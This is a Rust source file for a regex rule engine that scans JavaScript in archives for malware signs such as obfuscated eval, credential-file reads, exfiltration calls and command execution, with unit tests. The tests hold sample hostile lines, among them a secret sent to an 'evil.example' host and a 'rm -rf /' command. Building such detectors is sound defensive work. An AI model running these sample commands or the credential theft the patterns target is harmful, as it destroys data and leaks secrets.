//! RuleEngine: portable regex-based equivalent of the original's YARA rule
//! set. Grounded in `original_source/core/triage/yara_engine.py`'s
//! `BUILTIN_RULES` — no YARA FFI dependency is introduced since the original
//! only reaches for `yara-python` when it happens to be installed and
//! otherwise runs these same patterns.

use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use triage_archive::ArchiveReader;
use triage_core::{weighted_risk, Finding, Severity};

use crate::error::RulesError;

struct Rule {
    name: &'static str,
    severity: Severity,
    patterns: Vec<Regex>,
}

fn rules() -> &'static Vec<Rule> {
    static RULES: OnceLock<Vec<Rule>> = OnceLock::new();
    RULES.get_or_init(|| {
        let ci = |p: &str| Regex::new(&format!("(?i){p}")).unwrap();
        vec![
            Rule {
                name: "obfuscated_eval",
                severity: Severity::High,
                patterns: vec![
                    ci(r"eval\s*\(\s*atob\s*\("),
                    ci(r"eval\s*\(\s*unescape\s*\("),
                    ci(r"Function\s*\(\s*['\x22]return"),
                    ci(r"eval\s*\(\s*String\.fromCharCode"),
                ],
            },
            Rule {
                name: "base64_payload",
                severity: Severity::High,
                patterns: vec![
                    ci(r"[A-Za-z0-9+/]{100,}={0,2}"),
                    ci(r"Buffer\.from\s*\([^)]+,\s*['\x22]base64['\x22]\)"),
                ],
            },
            Rule {
                name: "hardcoded_ip",
                severity: Severity::Medium,
                patterns: vec![ci(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")],
            },
            Rule {
                name: "suspicious_url",
                severity: Severity::Medium,
                patterns: vec![
                    ci(r"https?://(?:pastebin|paste\.ee|hastebin|ngrok\.io|\w+\.trycloudflare\.com)"),
                    ci(r"https?://[a-z0-9.-]+\.(?:tk|ml|ga|cf|gq)\b"),
                ],
            },
            Rule {
                name: "credential_access",
                severity: Severity::High,
                patterns: vec![
                    ci(r"process\.env\.[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)"),
                    ci(r"\.ssh/id_rsa"),
                    ci(r"/\.aws/credentials"),
                ],
            },
            Rule {
                name: "data_exfiltration",
                severity: Severity::High,
                patterns: vec![
                    ci(r"fetch\s*\(\s*['\x22]https?://(?!localhost)"),
                    ci(r"https?\.request\s*\(\s*\{[^}]*method\s*:\s*['\x22]POST"),
                ],
            },
            Rule {
                name: "command_execution",
                severity: Severity::High,
                patterns: vec![
                    ci(r"child_process"),
                    ci(r"\bexecSync\b"),
                    ci(r"\bspawnSync\b"),
                    ci(r"\bexec\s*\(\s*['\x22]"),
                ],
            },
            Rule {
                name: "hex_obfuscation",
                severity: Severity::Medium,
                patterns: vec![
                    ci(r"(?:\\x[0-9a-fA-F]{2}){10,}"),
                    ci(r"String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){5,}"),
                ],
            },
            Rule {
                name: "network_reconnaissance",
                severity: Severity::Medium,
                patterns: vec![
                    ci(r"os\.hostname"),
                    ci(r"os\.userInfo"),
                    ci(r"os\.networkInterfaces"),
                    ci(r"os\.platform\b.*\bos\.arch\b"),
                ],
            },
            Rule {
                name: "dynamic_require",
                severity: Severity::Medium,
                patterns: vec![
                    ci(r"require\s*\(\s*[a-zA-Z_$][\w$]*\s*\)"),
                    ci(r"require\s*\(\s*[`'\x22].*\$\{"),
                ],
            },
        ]
    })
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct RuleScanResult {
    pub findings: Vec<Finding>,
    pub risk_score: f64,
}

pub struct RuleEngine {
    read_cap_bytes: u64,
}

impl RuleEngine {
    pub fn new(read_cap_bytes: u64) -> Self {
        Self { read_cap_bytes }
    }

    pub fn scan(&self, archive: &mut ArchiveReader) -> Result<RuleScanResult, RulesError> {
        let mut findings = Vec::new();

        let targets: Vec<String> = archive
            .entries()
            .iter()
            .filter(|e| !e.is_dir)
            .filter(|e| is_source_file(&e.name))
            .filter(|e| e.size <= self.read_cap_bytes)
            .map(|e| e.name.clone())
            .collect();

        for target in targets {
            let Ok(bytes) = archive.read(&target, self.read_cap_bytes) else {
                continue;
            };
            let Ok(text) = String::from_utf8(bytes) else {
                continue;
            };

            for rule in rules() {
                for pattern in &rule.patterns {
                    for (line_no, line) in text.lines().enumerate() {
                        for m in pattern.find_iter(line) {
                            findings.push(
                                Finding::new(
                                    rule.severity,
                                    rule.name,
                                    format!("rule '{}' matched", rule.name),
                                )
                                .with_file(target.clone())
                                .with_line(line_no as u32 + 1)
                                .with_match(m.as_str()),
                            );
                        }
                    }
                }
            }
        }

        Ok(RuleScanResult {
            risk_score: weighted_risk(&findings),
            findings,
        })
    }
}

fn is_source_file(name: &str) -> bool {
    let lower = name.to_lowercase();
    let is_js_like = [".js", ".ts", ".mjs", ".cjs"].iter().any(|ext| lower.ends_with(ext));
    if !is_js_like {
        return false;
    }
    !(lower.contains("__test__") || lower.contains(".test.") || lower.contains(".spec."))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use zip::write::FileOptions;

    fn archive_with(entries: &[(&str, &[u8])]) -> ArchiveReader {
        let file = tempfile::NamedTempFile::new().unwrap();
        {
            let mut writer = zip::ZipWriter::new(file.reopen().unwrap());
            for (name, data) in entries {
                writer.start_file(*name, FileOptions::default()).unwrap();
                writer.write_all(data).unwrap();
            }
            writer.finish().unwrap();
        }
        ArchiveReader::open(file.path(), 500 * 1024 * 1024).unwrap()
    }

    #[test]
    fn detects_credential_access_and_exfiltration() {
        let src = b"const t = process.env.API_SECRET;\nfetch('https://evil.example/collect');\n";
        let mut archive = archive_with(&[("extension/main.js", src)]);
        let engine = RuleEngine::new(5 * 1024 * 1024);
        let result = engine.scan(&mut archive).unwrap();
        assert!(result.findings.iter().any(|f| f.category == "credential_access"));
        assert!(result.findings.iter().any(|f| f.category == "data_exfiltration"));
        assert!(result.risk_score >= 0.30);
    }

    #[test]
    fn test_files_are_skipped() {
        let src = b"child_process.exec('rm -rf /')";
        let mut archive = archive_with(&[("extension/main.test.js", src)]);
        let engine = RuleEngine::new(5 * 1024 * 1024);
        let result = engine.scan(&mut archive).unwrap();
        assert!(result.findings.is_empty());
    }

    #[test]
    fn one_finding_per_match_with_correct_line_number() {
        let src = b"line one\nconst ip = '10.0.0.1';\nline three\n";
        let mut archive = archive_with(&[("extension/net.js", src)]);
        let engine = RuleEngine::new(5 * 1024 * 1024);
        let result = engine.scan(&mut archive).unwrap();
        let hit = result
            .findings
            .iter()
            .find(|f| f.category == "hardcoded_ip")
            .unwrap();
        assert_eq!(hit.line_number, Some(2));
        assert_eq!(hit.file_path.as_deref(), Some("extension/net.js"));
    }
}
